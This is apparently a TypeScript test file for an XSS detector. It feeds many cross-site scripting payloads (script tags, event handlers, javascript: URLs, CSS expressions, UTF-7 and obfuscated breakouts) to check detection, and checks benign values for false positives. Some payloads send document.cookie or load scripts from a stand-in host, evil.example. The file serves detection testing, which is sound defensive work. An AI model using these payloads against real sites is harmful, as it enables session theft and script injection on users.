import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DETECTORS, detectXss, detectXssStrict } from './xss.js';

const context = { location: 'query:q' };

function reason(value: string): string | undefined {
  return detectXss(value, context)?.detail;
}

function strictReason(value: string): string | undefined {
  return detectXssStrict(value, context)?.detail;
}

describe('xss: markup', () => {
  it('reports script elements, opened or closed, however the tag name is spelled', () => {
    for (const value of [
      '<script>alert(1)</script>',
      '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
      '<scr\0ipt>alert(1)</scr\0ipt>',
      '<script/src="data:,alert(1)">',
      '"></title><script>prompt(1)</script>',
      'document.getElementById("x").innerHTML;</script>',
      '<svg:script>alert(1)</svg:script>',
    ]) {
      assert.equal(reason(value), 'script-tag', value);
    }
  });

  it('reports event handlers on any element, with any whitespace or slash between attributes', () => {
    for (const value of [
      '<img src=x onerror=alert(1)>',
      '<IMG SRC="x" ONERROR="alert(1)">',
      '<svg/onload=alert(1)>',
      '<svg\tonload\n=\nalert(1)>',
      '<body onload=alert(1)>',
      '<details open ontoggle=alert(1)>',
      '<img src=x onerror="fetch(`//evil.example/`+document.cookie)"',
      '<a onmouseover="x">hover</a>',
    ]) {
      assert.equal(reason(value), 'event-handler', value);
    }
  });

  it('reports elements that load active content', () => {
    assert.equal(reason('<iframe src=//evil.example></iframe>'), 'active-element');
    assert.equal(reason('<object data="x.swf" type="application/x-shockwave-flash">'), 'active-element');
    assert.equal(reason('<embed src=x.swf>'), 'active-element');
    assert.equal(reason('<base href="//evil.example/">'), 'active-element');
  });

  it('reports script and HTML-document URLs in attributes, through tabs, newlines and case', () => {
    assert.equal(reason('<a href="javascript:alert(1)">x</a>'), 'script-url');
    assert.equal(reason('<a href=" \tJaVa\tScRiPt:alert(1)">x</a>'), 'script-url');
    assert.equal(reason('<a href="jav\nascript:alert(1)">x</a>'), 'script-url');
    assert.equal(reason('<form><button formaction="javascript:alert(1)">x</button></form>'), 'script-url');
    assert.equal(reason('<img src="vbscript:msgbox(1)">'), 'script-url');
    assert.equal(reason('<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>'), 'data-url');
    assert.equal(reason('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'), 'meta-http-equiv');
  });

  it('reports styles that run script, even behind CSS comments and escapes', () => {
    assert.equal(reason('<div style="width: expression(alert(1))">'), 'css-script');
    assert.equal(reason('<div style="width: expr/**/ession(alert(1))">'), 'css-script');
    assert.equal(reason('<div style="background:url(javascript:alert(1))">'), 'css-script');
    assert.equal(reason('<style>@import "//evil.example/x.css";</style>'), 'css-import');
  });

  it('reports the legacy IE and Netscape ways: JavaScript entities, data islands, UTF-7', () => {
    assert.equal(reason('<br size="&{alert(1)}">'), 'script-entity');
    assert.equal(reason(`'';!--"<x>=&{()}`), 'script-entity');
    assert.equal(reason('<div datasrc=#x datafld=c dataformatas=html>'), 'data-binding');
    assert.equal(reason('+ADw-script+AD4-x+ADw-/script+AD4-'), 'utf7-script-tag');
    assert.equal(reason('+ADw-img src=x onerror=x+AD4-'), 'utf7-event-handler');
  });

  it('finds markup hidden inside an attribute value', () => {
    assert.equal(reason('<a title="<img src=x onerror=alert(1)>">x</a>'), 'event-handler');
  });
});

describe('xss: outside markup', () => {
  it('reports an event handler written by a value that breaks out of an attribute', () => {
    for (const value of [
      '" autofocus onfocus=alert(1) x="',
      "' onmouseover='alert(document.domain)",
      '"onmouseover="alert(1)',
      'x" onerror="fetch(\'//evil.example\')',
    ]) {
      assert.equal(reason(value), 'event-handler', value);
    }
  });

  it('reports javascript: URLs whose body does something', () => {
    assert.equal(reason('javascript:alert(1)'), 'script-url');
    assert.equal(reason('JAVASCRIPT:alert(1)'), 'script-url');
    assert.equal(reason('java\tscript:alert(1)'), 'script-url');
    assert.equal(reason('javascript://%0aalert(1)'), 'script-url');
    assert.equal(reason('next=javascript:document.location="//evil.example"'), 'script-url');
    assert.equal(reason('data:text/html,<b>x</b>'), 'data-url');
  });

  it('reports JavaScript string and expression breakouts that call sinks', () => {
    assert.equal(reason("';alert(1)//"), 'js-breakout');
    assert.equal(reason('"-alert(1)-"'), 'js-breakout');
    assert.equal(reason("'-prompt`1`-'"), 'js-breakout');
    assert.equal(reason('alert(document.cookie)'), 'js-call');
    assert.equal(reason("top['al'+'ert'](1)"), 'js-call');
    assert.equal(reason('this[(+{}+[])[+!![]]+(![]+[])[!+[]+!![]]]((+{}+[])[+!![]]);//'), 'js-call');
    assert.equal(reason("{{constructor.constructor('alert(1)')()}}"), 'js-call');
    assert.equal(reason('toString().constructor.prototype.charAt=[].join'), 'js-call');
  });
});

describe('xss: benign values', () => {
  it('passes harmless formatting, links and images', () => {
    for (const value of [
      '<b>bold</b> and <i>italic</i>',
      '<p>Hello, <em>world</em></p><br/>',
      '<a href="https://example.com/docs?a=1&b=2">the docs</a>',
      '<img src="https://example.com/cat.png" alt="a cat">',
      '<a href="javascript:void(0)">menu</a>',
      '<ul><li>one</li><li>two</li></ul>',
    ]) {
      assert.equal(reason(value), undefined, value);
    }
  });

  it('passes comparisons, addresses in angle brackets and generics', () => {
    for (const value of [
      'a < b and c > d',
      'if (x<y && y>z) return',
      'John Smith <john@example.com>',
      'List<Object> items = new ArrayList<>();',
      '3 <5 but 7> 6',
    ]) {
      assert.equal(reason(value), undefined, value);
    }
  });

  it('passes prose that names alert, script, eval or cookies', () => {
    for (const value of [
      'Please confirm (yes/no) before you alert the team',
      'The script was great; the alert (a red banner) showed up twice',
      'We eval(uate) every candidate',
      'Javascript: the good parts (2008)',
      'I like document.cookie recipes',
      'search for <script in the docs',
      'onion=good; online=yes',
      'Set onload = true in the config (see docs)',
    ]) {
      assert.equal(reason(value), undefined, value);
    }
  });

  it('passes markdown, JSON and ordinary request values', () => {
    for (const value of [
      '# Title\n\n* item with `code` and [a link](https://example.com)',
      '{"href":"javascript:void(0);","data-id":"x=1"}',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0 Safari/537.36',
      'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
      'session=abc123; theme=dark',
      'https://example.com/a?b=c#frag',
      '2024-01-01T10:00:00Z',
    ]) {
      assert.equal(reason(value), undefined, value);
    }
  });
});

describe('xss-strict', () => {
  it('reports everything xss reports', () => {
    for (const value of ['<script>alert(1)</script>', '" onfocus=alert(1) autofocus x="', "';alert(1)//"]) {
      assert.ok(strictReason(value) !== undefined, value);
    }
  });

  it('also reports injection carriers and unknown on… handlers that xss lets pass', () => {
    assert.equal(reason('<svg><animate attributeName=x>'), undefined);
    assert.equal(strictReason('<svg><animate attributeName=x>'), 'suspect-element');
    assert.equal(reason('<x onnewevent=foo>'), undefined);
    assert.equal(strictReason('<x onnewevent=foo>'), 'event-handler');
    assert.equal(strictReason("';foo(1)//"), 'js-breakout');
  });

  it('still passes harmless formatting and prose', () => {
    assert.equal(strictReason('<b>bold</b> <a href="https://example.com">x</a>'), undefined);
    assert.equal(strictReason('a < b and c > d'), undefined);
    assert.equal(strictReason("It's 5-6 o'clock; call(me) later"), undefined);
  });
});

describe('DETECTORS', () => {
  it('registers both variants by the names the rules use', () => {
    assert.deepEqual(Object.keys(DETECTORS).sort(), ['xss', 'xss-strict']);
  });

  it('stays linear on hostile input', { timeout: 10_000 }, () => {
    const values = [
      '<a '.repeat(20_000),
      '<a x="'.repeat(20_000),
      '['.repeat(50_000) + ']('.repeat(50_000),
      'on'.repeat(50_000) + '=alert(1)',
      '='.repeat(100_000),
      '&{'.repeat(50_000),
      'javascript:'.repeat(10_000),
      `<style>${'/*'.repeat(30_000)}`,
    ];
    for (const value of values) {
      detectXss(value, context);
      detectXssStrict(value, context);
    }
  });
});
